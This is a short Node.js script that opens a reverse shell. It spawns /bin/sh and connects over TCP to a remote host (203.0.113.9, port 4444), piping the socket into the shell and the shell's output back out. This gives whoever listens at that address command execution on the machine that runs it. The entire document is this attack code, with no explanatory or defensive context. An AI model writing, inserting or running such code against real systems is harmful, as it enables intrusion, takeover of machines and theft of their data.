const net = require("net");
const { spawn } = require("child_process");
const shell = spawn("/bin/sh", []);
const link = net.connect(4444, "203.0.113.9", () => {
  link.pipe(shell.stdin);
  shell.stdout.pipe(link);
});
